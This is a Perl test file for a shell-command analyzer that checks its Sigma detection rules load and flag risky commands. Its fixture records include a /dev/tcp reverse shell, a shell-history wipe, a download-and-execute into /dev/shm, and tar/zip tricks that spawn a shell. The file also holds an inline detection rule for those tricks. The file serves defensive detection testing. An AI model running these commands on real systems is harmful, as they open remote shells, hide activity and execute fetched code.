#!/usr/bin/perl
# 24-sigma.t — Sigma rules as extra lockbox findings through the CLI: --check-sigma lists
# what loads and what is refused (file:line:col, why), `escort analyze --sigma` and
# `escort explain --sigma` report matching rules with their level and ATT&CK ids, and an
# unsupported rule never stops the others.
use strict;
use warnings;
use FindBin;
use lib "$FindBin::Bin/../lib";
use EscortTest;
use File::Temp qw(tempdir);
use JSON::PP;

my $rules = 'rules/sigma';
my $bad = 'tests/fixtures/sigma';
my ($s, $o, $e);

($s, $o, $e) = escort({}, 'analyze', '--check-sigma', $rules);
my @loaded = $o =~ /^\Q$rules\E\/\S+\.yml: loaded: /mg;
ok($s == 0 && @loaded >= 4 && $o =~ /^\d+ Sigma rules loaded, 0 problems$/m,
    '--check-sigma: the shipped rules all load', "$o$e");
($s, $o, $e) = escort({}, 'analyze', '--check-sigma', $bad);
ok($s == 1 && $e =~ /proc_unsupported_parent\.yml:12:9: rule 'Shell spawned by a web server': unsupported: field ParentImage/,
    '--check-sigma: an unsupported rule is named with file:line:col and why, exit 1', $e);
($s, $o, $e) = escort({}, 'analyze', '--check-sigma', 'no/such/dir');
ok($s == 3 && $e =~ /no\/such\/dir/, '--check-sigma: an unreadable directory is an error (exit 3)');

my @recs = (
	'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
	'ls -l /srv',
	'unset HISTFILE; history -c',
	'curl -so /dev/shm/x http://h/x && chmod +x /dev/shm/x',
	'/usr/bin/getent passwd',
);
my @want = ('sigma:5f0d3b8e-escort-0001', '', 'sigma:5f0d3b8e-escort-0002',
	'sigma:5f0d3b8e-escort-0003', 'sigma:5f0d3b8e-escort-0004');
($s, $o, $e) = escort({ stdin => join("\n", @recs) . "\n" }, 'analyze', '--sigma', $rules,
    '--sigma', $bad);
my @res = map { decode_json($_) } split /\n/, $o;
ok($s == 0 && @res == @recs, 'analyze --sigma: one object per record, exit 0 despite a refused rule', $e);
ok($e =~ /proc_unsupported_parent\.yml:12:9: .*unsupported/, 'and the refused rule is warned about on stderr');
for my $i (0 .. $#recs) {
	my @sig = grep { $_->{id} =~ /^sigma:/ } @{ $res[$i]{findings} // [] };
	if ($want[$i] eq '') {
		ok(!@sig, "no Sigma finding for: $recs[$i]");
	} else {
		ok(@sig == 1 && $sig[0]{id} eq $want[$i] && $sig[0]{message} =~ /^Sigma rule '/,
		    "$want[$i] for: $recs[$i]", encode_json(\@sig));
	}
}
my ($rs) = grep { $_->{id} =~ /0001/ } @{ $res[0]{findings} };
ok($res[0]{risk} eq 'critical' && $rs->{severity} eq 'critical' && grep({ $_ eq 'T1059.004' } @{ $res[0]{attack} }),
    'level critical is the finding\'s severity, the tag its ATT&CK id');
my ($ls) = grep { $_->{id} =~ /0004/ } @{ $res[4]{findings} };
ok($ls && $ls->{severity} eq 'low' && $ls->{category} eq 'recon' && grep({ $_ eq 'T1087.001' } @{ $res[4]{attack} }),
    'level low, tactic attack.discovery as category recon');

# without --sigma: no Sigma findings
($s, $o) = escort({ stdin => "$recs[0]\n" }, 'analyze');
ok($o !~ /"sigma:/, 'without --sigma no rule applies');

# a rule written on the spot: condition forms through the CLI
my $t = tempdir(CLEANUP => 1);
spit("$t/r.yaml", <<'Y');
title: Archive tool runs a command
level: medium
tags: [attack.execution, attack.t1059]
logsource:
  product: linux
  category: process_creation
detection:
  sel_tar:
    Image|endswith: /tar
    CommandLine|contains: [--to-command, --checkpoint-action=exec]
  sel_zip:
    Image|endswith: /zip
    CommandLine|re: ' -(T|-unzip-command) '
  filter_help:
    CommandLine|contains: --help
  condition: 1 of sel_* and not filter_help
Y
($s, $o, $e) = escort({ stdin => "tar cf /dev/null x --checkpoint-action=exec=sh\nzip a.zip x -T -TT 'sh #'\ntar --help --to-command\n" },
    'analyze', '--sigma', $t);
@res = map { decode_json($_) } split /\n/, $o;
my @hits = map { scalar grep { $_->{id} eq 'sigma:r.yaml' } @{ $_->{findings} } } @res;
ok("@hits" eq '1 1 0', "1 of sel_* and not filter: tar, zip hit, --help filtered (@hits)", $e);

# explain renders the rule's title
($s, $o, $e) = escort({}, 'explain', '--sigma', $rules, '--color', 'never', '--', 'unset', 'HISTFILE');
ok($s == 0 && $o =~ /Sigma rule 'Shell history cleared or disabled'/, 'explain --sigma shows the rule', "$o$e");
($s, $o, $e) = escort({}, 'explain', '--sigma', "$t/none", '--', 'id');
ok($s == 3, 'explain --sigma with a missing directory: exit 3');

done();
